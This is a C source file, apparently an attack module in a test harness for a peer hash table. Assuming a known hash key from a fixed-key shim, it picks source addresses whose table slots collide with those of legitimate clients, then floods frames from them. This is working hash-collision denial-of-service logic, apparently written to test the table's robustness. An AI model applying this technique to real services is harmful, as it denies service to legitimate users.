// SPDX-License-Identifier: MIT
/*
 * Somebody who knows the hash key, which fixedkey.so gave the library, and the socket's cookie:
 * peers whose places in the table are those of the well-behaved hosts. This file follows
 * shim/peers.h.
 */

#include "attack.h"
#include "fixedkey.h"
#include "peers.h"

/* Some 32 for each name of each victim: more than a name has places. */
enum { POOL = 1 << 13, TRIES_MAX = 1 << 27 };

static struct end pool[POOL];
static unsigned int chosen;

/* Places of the table that a victim's names begin at. */
static unsigned char *wanted;
static uint32_t mask;
static struct hash_key key;

static struct names names_of(const struct end *end, uint64_t cookie)
{
	struct peer peer = { .host = end->host, .scope = 0, .port = htons(end->port) };
	struct names names;

	names_of_peer(&names, &key, &peer, cookie);
	return names;
}

static uint32_t place_of(uint64_t name)
{
	static struct entry first;
	struct peers peers = { .entries = &first, .mask = mask };

	return (uint32_t)(((uintptr_t)peers_home(&peers, name) - (uintptr_t)&first) /
			  sizeof(first));
}

/* Is this peer in the way of a victim's name? (Its host's name does not count: few hosts, many
 * ports.) */
static bool collides(const struct end *end, uint64_t cookie)
{
	return wanted[place_of(names_of(end, cookie).peer)];
}

void aim(struct attack *attack)
{
	mask = (uint32_t)peers_entries(attack->peers) - 1;
	wanted = calloc(mask + 1, 1);
	fixed_bytes(&key, sizeof(key));
	for (unsigned int i = 0; i < 2 * CLIENTS; i++) {
		struct end victim = { client_host(i / 2, i % 2), CLIENT_PORT };
		struct names names = names_of(&victim, attack->cookie);

		wanted[place_of(names.peer)] = wanted[place_of(names.host)] = 1;
	}
	for (unsigned int tries = 0; tries < TRIES_MAX && chosen < POOL; tries++) {
		struct end to = any_destination(attack), from = any_source(attack, &to);

		if (collides(&from, attack->cookie))
			pool[chosen++] = from;
	}
	if (!chosen)
		exit(1);
}

void aimed(struct attack *attack, struct frame *frame)
{
	struct end from = pool[attack->sent % chosen], to;

	do
		to = any_destination(attack);
	while (!IN6_IS_ADDR_V4MAPPED(&from.host) != !IN6_IS_ADDR_V4MAPPED(&to.host));
	frame_flood(attack, frame, &from, &to);
}
